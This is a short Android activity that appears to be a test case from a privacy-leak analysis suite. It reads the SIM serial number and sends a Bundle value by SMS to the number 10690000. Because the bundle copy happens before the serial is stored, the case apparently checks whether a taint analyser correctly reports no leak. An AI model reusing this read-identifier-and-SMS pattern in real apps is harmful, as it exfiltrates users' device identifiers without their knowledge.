package cn.privlens.suite.bundle_put_all_before;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Bundle a = new Bundle();
        Bundle b = new Bundle();
        b.putAll(a);
        a.putString("s", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSimSerialNumber());
        SmsManager.getDefault().sendTextMessage("10690000", null, b.getString("s", "无"), null, null);
    }
}
